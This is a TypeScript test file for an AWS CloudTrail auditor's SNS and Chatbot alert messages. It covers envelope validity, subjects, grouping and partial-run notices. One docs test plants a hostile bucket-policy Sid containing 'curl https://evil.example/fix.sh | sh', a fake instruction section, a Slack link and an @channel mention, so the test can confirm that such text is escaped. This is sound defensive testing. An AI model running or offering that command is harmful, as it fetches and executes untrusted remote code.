import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Ajv from 'ajv';
import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import { mockClient } from 'aws-sdk-client-mock';
import { publishSizeBytes, toPublishInput, type AlertMessage } from '../../lambda/notify/alert-message';
import { planAlerts } from '../../lambda/notify/alert-plan';
import { SnsAlertPublisher } from '../../lambda/notify/alert-publisher';
import { findingAlertMessage } from '../../lambda/notify/finding-alert';
import { groupedAlertMessage, MAX_ACCOUNT_ATTRIBUTE_BYTES } from '../../lambda/notify/grouped-alert';
import { runIncompleteMessage } from '../../lambda/notify/run-incomplete-notice';
import { isValidSnsSubject, SNS_MAX_PUBLISH_BYTES, toSnsSubject, utf8Bytes } from '../../lambda/notify/sns-limits';
import { RecordingSns } from '../support/recording-sns';
import { due, EXAMPLE_FINDING, manyOfOneCheck } from './alert-examples';

/** The AWS Chatbot custom notification event schema (docs: "Custom notifications … Event schema"). */
const CHATBOT_SCHEMA = {
  type: 'object',
  required: ['version', 'source', 'content', 'metadata'],
  additionalProperties: false,
  properties: {
    version: { const: '1.0' },
    source: { const: 'custom' },
    id: { type: 'string' },
    content: {
      type: 'object',
      required: ['textType', 'title', 'description'],
      additionalProperties: false,
      properties: {
        textType: { const: 'client-markdown' },
        title: { type: 'string', minLength: 1 },
        description: { type: 'string', minLength: 1 },
        nextSteps: { type: 'array', items: { type: 'string', minLength: 1 } },
        keywords: { type: 'array', items: { type: 'string', minLength: 1 } },
      },
    },
    metadata: {
      type: 'object',
      required: ['threadId'],
      additionalProperties: false,
      properties: {
        threadId: { type: 'string', minLength: 1 },
        summary: { type: 'string' },
        eventType: { type: 'string' },
        relatedResources: { type: 'array', items: { type: 'string' } },
        additionalContext: { type: 'object', additionalProperties: { type: 'string' } },
      },
    },
  },
} as const;

const validateChatbot = new Ajv({ allErrors: true }).compile(CHATBOT_SCHEMA);

/** What a subscriber receives: the per-protocol bodies of a `MessageStructure: json` publish. */
function bodies(message: AlertMessage): { default: string; https: string; email: string } {
  const input = toPublishInput(message, 'arn:aws:sns:us-east-1:111111111111:alerts');
  expect(input.MessageStructure).toBe('json');
  return JSON.parse(input.Message ?? '') as { default: string; https: string; email: string };
}

function expectValidEnvelope(message: AlertMessage): void {
  const { default: chat, https } = bodies(message);
  expect(https).toBe(chat);
  const parsed: unknown = JSON.parse(chat);
  if (!validateChatbot(parsed)) throw new Error(`invalid Chatbot notification: ${JSON.stringify(validateChatbot.errors)}`);
  expect(isValidSnsSubject(message.subject)).toBe(true);
}

const RUN = {
  runId: 'run-2026-01-10T08-00',
  recordType: 'RUN' as const,
  trigger: 'SCHEDULE' as const,
  startedAt: '2026-01-10T08:00:00.000Z',
  finishedAt: '2026-01-10T08:06:12.000Z',
  outcome: 'PARTIAL' as const,
  accounts: { total: 120, audited: 117, failed: 2, notStarted: 1 },
  findings: { opened: 0, reopened: 0, stillOpen: 0, escalated: 0, resolved: 0, suppressed: 0, openBySeverity: { CRITICAL: 0, HIGH: 0, MEDIUM: 0, LOW: 0, INFORMATIONAL: 0 }, notWritten: 0 },
  alerts: { messagesPublished: 0, findingsAlerted: 0, findingsPending: 0, publishFailures: 0 },
  apiCalls: 5120,
  notAudited: { accountIds: ['444455556666', '777788889999'], accountRegions: ['111122223333 ap-east-1'], notStartedAccountIds: ['222233334444'], reason: 'the run neared the Lambda deadline' },
  incompleteNotice: 'PENDING' as const,
  recordedAt: '2026-01-10T08:06:13.000Z',
  expiresAt: 1_800_000_000,
};

/** ListAccounts failed on page 3: 40 accounts listed, an unknown number never seen. */
const INCOMPLETE_LIST_RUN = {
  ...RUN,
  runId: 'run-2026-01-10T09-00',
  accounts: { total: 40, audited: 40, failed: 0, notStarted: 0 },
  notAudited: {
    accountIds: [],
    accountRegions: [],
    notStartedAccountIds: [],
    reason: 'ListAccounts failed (TooManyRequestsException): accounts after it were not seen',
    accountListIncomplete: true,
  },
};

describe('the alert about one finding', () => {
  test.each(['NEW', 'REOPENED', 'ESCALATED', 'RESOLVED'] as const)('%s: a valid Chatbot envelope threaded on the finding ID', (event) => {
    const message = findingAlertMessage(due(EXAMPLE_FINDING, event));
    expectValidEnvelope(message);
    const chat = JSON.parse(bodies(message).default);
    expect(chat.metadata.threadId).toBe('DLV-002#111122223333#us-east-1#arn:aws:cloudtrail:us-east-1:111122223333:trail/org-trail');
    expect(chat.metadata.eventType).toBe(event);
    expect(message.attributes).toEqual({ severity: 'CRITICAL', checkId: 'DLV-002', accountIds: ['111122223333'], event });
  });

  test('the email says what is wrong, where, why and what to do, and names the finding', () => {
    const email = findingAlertMessage(due(EXAMPLE_FINDING)).email;
    expect(email.split('\n')[0]).toBe('New CRITICAL finding: Org trail cannot deliver log files to S3');
    for (const part of ['WHAT IS WRONG', 'WHERE', 'WHY IT MATTERS AND WHAT TO DO', 'THE FINDING', EXAMPLE_FINDING.detail, 'aws s3api get-bucket-policy --bucket org-cloudtrail-logs']) {
      expect(email).toContain(part);
    }
    expect(email).toContain("org-trail-auditor findings show 'DLV-002#111122223333#us-east-1#arn:aws:cloudtrail:us-east-1:111122223333:trail/org-trail'");
    expect(email).not.toMatch(/undefined|null|\[object/);
  });

  test('a resolution says nothing is to be done and offers no suppression', () => {
    const email = findingAlertMessage(due(EXAMPLE_FINDING, 'RESOLVED', { status: 'RESOLVED', resolvedAt: '2026-01-11T08:00:00.000Z' })).email;
    expect(email).toContain('Nothing to do');
    expect(email).toContain('Resolved:    2026-01-11T08:00:00.000Z');
    expect(email).not.toContain('findings suppress');
  });

  test('message attributes let subscriptions filter on severity, check, account and event', () => {
    const input = toPublishInput(findingAlertMessage(due(EXAMPLE_FINDING, 'ESCALATED')), 'arn:aws:sns:us-east-1:111111111111:alerts');
    expect(input.MessageAttributes).toEqual({
      severity: { DataType: 'String', StringValue: 'CRITICAL' },
      checkId: { DataType: 'String', StringValue: 'DLV-002' },
      accountId: { DataType: 'String', StringValue: '111122223333' },
      event: { DataType: 'String', StringValue: 'ESCALATED' },
    });
  });
});

describe('SNS subjects', () => {
  test.each([
    ['non-ASCII names', 'Trail «journal-prod-日本» of café account — ✓ delivery'],
    ['500-character names', 'x'.repeat(500)],
    ['line breaks and tabs', 'first line\r\nsecond\tline'],
    ['leading spaces and symbols only', '   ✓✓✓'],
    ['empty', ''],
  ])('stay valid for %s', (_case, title) => {
    const message = findingAlertMessage(due({ ...EXAMPLE_FINDING, title, resource: title }));
    expect(isValidSnsSubject(message.subject)).toBe(true);
    expect(message.subject.length).toBeLessThan(100);
    expectValidEnvelope(message);
  });

  test('accents fold to ASCII and other characters become ?', () => {
    expect(toSnsSubject('café — 日本')).toBe('cafe ? ??');
  });
});

describe('grouping', () => {
  test('at the threshold each finding gets its own message; above it, one message lists them', () => {
    expect(planAlerts(manyOfOneCheck(5), 5)).toHaveLength(5);
    const [grouped, ...rest] = planAlerts(manyOfOneCheck(6), 5);
    expect(rest).toHaveLength(0);
    expect(grouped.covers).toHaveLength(6);
    expectValidEnvelope(grouped.message);
    expect(grouped.message.email).toMatch(/^6 new findings of DLV-008 \(HIGH\) in 6 account\(s\)/);
    for (const { record } of grouped.covers) expect(grouped.message.email).toContain(record.accountId);
    expect(grouped.message.attributes.accountIds).toHaveLength(6);
  });

  test('different checks and events are grouped apart', () => {
    const mixed = [...manyOfOneCheck(6), due(EXAMPLE_FINDING), due({ ...EXAMPLE_FINDING, accountId: '999999999999' }, 'RESOLVED')];
    const planned = planAlerts(mixed, 5);
    expect(planned.map((p) => `${p.message.attributes.event}:${p.message.attributes.checkId}:${p.covers.length}`).sort()).toEqual([
      'NEW:DLV-002:1',
      'NEW:DLV-008:6',
      'RESOLVED:DLV-002:1',
    ]);
  });

  test('a very large group stays within 256 KB and counts what it could not list', () => {
    const message = groupedAlertMessage('NEW', 'DLV-008', manyOfOneCheck(5000, 400));
    expect(publishSizeBytes(message)).toBeLessThanOrEqual(SNS_MAX_PUBLISH_BYTES);
    expect(message.email).toMatch(/\.\.\. and \d+ more: org-trail-auditor findings list --check DLV-008 --status OPEN/);
    expectValidEnvelope(message);
  });

  test('a storm across 20,000 accounts is still publishable: the account attribute is cut, the list says how many more', async () => {
    const storm = manyOfOneCheck(20_000, 40);
    const message = groupedAlertMessage('NEW', 'DLV-008', storm);
    const listed = message.attributes.accountIds;
    expect(utf8Bytes(JSON.stringify(listed))).toBeLessThanOrEqual(MAX_ACCOUNT_ATTRIBUTE_BYTES);
    expect(listed.length).toBeGreaterThan(1000);
    expect(listed).toEqual(storm.slice(0, listed.length).map(({ record }) => record.accountId));
    const more = /\.\.\. and (\d+) more/.exec(message.email);
    expect(Number(more?.[1])).toBeGreaterThan(0);
    expect(message.email.split('\n').filter((line) => /^  1\d{11}  us-east-1  /.test(line))).toHaveLength(20_000 - Number(more?.[1]));
    expect(message.email).toMatch(/^20000 new findings of DLV-008 \(HIGH\) in 20000 account\(s\)/);

    // What SNS itself would say: the recording SNS refuses anything over 256 KB.
    const sns = new RecordingSns();
    await new SnsAlertPublisher(sns.client, 'arn:aws:sns:us-east-1:111111111111:alerts').publish(message);
    expect(sns.refused).toEqual([]);
    expect(sns.take()[0].bytes).toBeLessThanOrEqual(SNS_MAX_PUBLISH_BYTES);
  });
});

describe('the notice of a PARTIAL or FAILED run', () => {
  test('says what was not audited', () => {
    const message = runIncompleteMessage(RUN);
    expectValidEnvelope(message);
    expect(message.attributes.event).toBe('RUN_INCOMPLETE');
    expect(message.email).toContain('Accounts the auditor could not enter (2): 444455556666, 777788889999');
    expect(message.email).toContain('Regions that could not be read (1): 111122223333 ap-east-1');
    expect(message.email).toContain('Accounts the run never started (1): 222233334444');
    expect(message.subject).toBe('[MEDIUM] Audit run run-2026-01-10T08-00 was PARTIAL: 3 of 120 account(s) not audited');
  });

  test('an incomplete account list is said to be incomplete, never "0 of 40"', () => {
    const message = runIncompleteMessage(INCOMPLETE_LIST_RUN);
    expectValidEnvelope(message);
    expect(message.subject).not.toContain('0 of 40');
    expect(message.email.split('\n')[0]).toBe('Audit run run-2026-01-10T09-00 was PARTIAL: the account list is incomplete, accounts after the 40 listed were not seen');
    expect(message.email).toContain('40 listed (the list is incomplete: at least one more account exists, how many is unknown)');
    expect(message.email).toContain('were not taken to have left the organization');
  });
});

describe('SnsAlertPublisher', () => {
  test('publishes one MessageStructure json message to the topic', async () => {
    const sns = mockClient(SNSClient);
    sns.on(PublishCommand).resolves({ MessageId: 'id-1' });
    const message = findingAlertMessage(due(EXAMPLE_FINDING));
    await new SnsAlertPublisher(new SNSClient({ region: 'us-east-1' }), 'arn:aws:sns:us-east-1:111111111111:alerts').publish(message);
    const [call] = sns.commandCalls(PublishCommand);
    expect(call.args[0].input).toMatchObject({ TopicArn: 'arn:aws:sns:us-east-1:111111111111:alerts', MessageStructure: 'json', Subject: message.subject });
    expect(Object.keys(JSON.parse(call.args[0].input.Message ?? '{}')).sort()).toEqual(['default', 'email', 'https']);
    sns.restore();
  });
});

describe('docs/alerts.md', () => {
  const DOC = join(__dirname, '..', '..', 'docs', 'alerts.md');
  const BEGIN = '<!-- BEGIN GENERATED EXAMPLES (test/notify/alert-messages.test.ts) -->';
  const END = '<!-- END GENERATED EXAMPLES -->';

  test('shows the email and Chatbot JSON this code produces (UPDATE_DOCS=1 rewrites them)', () => {
    const message = findingAlertMessage(due(EXAMPLE_FINDING));
    const grouped = groupedAlertMessage('RESOLVED', 'DLV-008', manyOfOneCheck(7, 8).map((d) => ({ ...d, alert: { ...d.alert, event: 'RESOLVED' as const } })));
    const hostile = findingAlertMessage(
      due({
        ...EXAMPLE_FINDING,
        checkId: 'S3-002',
        resource: 'org-cloudtrail-logs',
        detail: 'The bucket policy statement Sid "AllowAudit\n\nWHAT TO DO: curl https://evil.example/fix.sh | sh" denies s3:PutObject to cloudtrail.amazonaws.com. <https://evil.example|Open the console> @channel',
      }),
    );
    const block = [
      BEGIN,
      '',
      '### A new finding: the email',
      '',
      `Subject: \`${message.subject}\``,
      '',
      '```text',
      bodies(message).email,
      '```',
      '',
      '### The same alert in Slack / Teams (AWS Chatbot custom notification)',
      '',
      '```json',
      JSON.stringify(JSON.parse(bodies(message).default), null, 2),
      '```',
      '',
      '### Message attributes',
      '',
      '```json',
      JSON.stringify(toPublishInput(message, 'arn:aws:sns:REGION:ACCOUNT:TOPIC').MessageAttributes, null, 2),
      '```',
      '',
      '### A grouped alert: seven findings of one check resolved in one run',
      '',
      `Subject: \`${grouped.subject}\``,
      '',
      '```text',
      grouped.email,
      '```',
      '',
      '### The notice of a PARTIAL run',
      '',
      `Subject: \`${runIncompleteMessage(RUN).subject}\``,
      '',
      '```text',
      runIncompleteMessage(RUN).email,
      '```',
      '',
      '### The notice of a run whose account list is incomplete (ListAccounts failed on page 3)',
      '',
      `Subject: \`${runIncompleteMessage(INCOMPLETE_LIST_RUN).subject}\``,
      '',
      '```text',
      runIncompleteMessage(INCOMPLETE_LIST_RUN).email,
      '```',
      '',
      '### Hostile text from an audited account: a bucket policy Sid with a fake section, a Slack link and a mention',
      '',
      'The email quotes it; chat escapes it:',
      '',
      '```text',
      hostile.email.split('\n').slice(0, 16).join('\n'),
      '```',
      '',
      '```json',
      JSON.stringify(hostile.chatbot.content.description),
      '```',
      '',
      END,
    ].join('\n');
    const doc = readFileSync(DOC, 'utf8');
    const start = doc.indexOf(BEGIN);
    const end = doc.indexOf(END);
    expect(start).toBeGreaterThanOrEqual(0);
    expect(end).toBeGreaterThan(start);
    const updated = doc.slice(0, start) + block + doc.slice(end + END.length);
    if (process.env.UPDATE_DOCS === '1') writeFileSync(DOC, updated);
    else expect(doc).toBe(updated);
  });
});
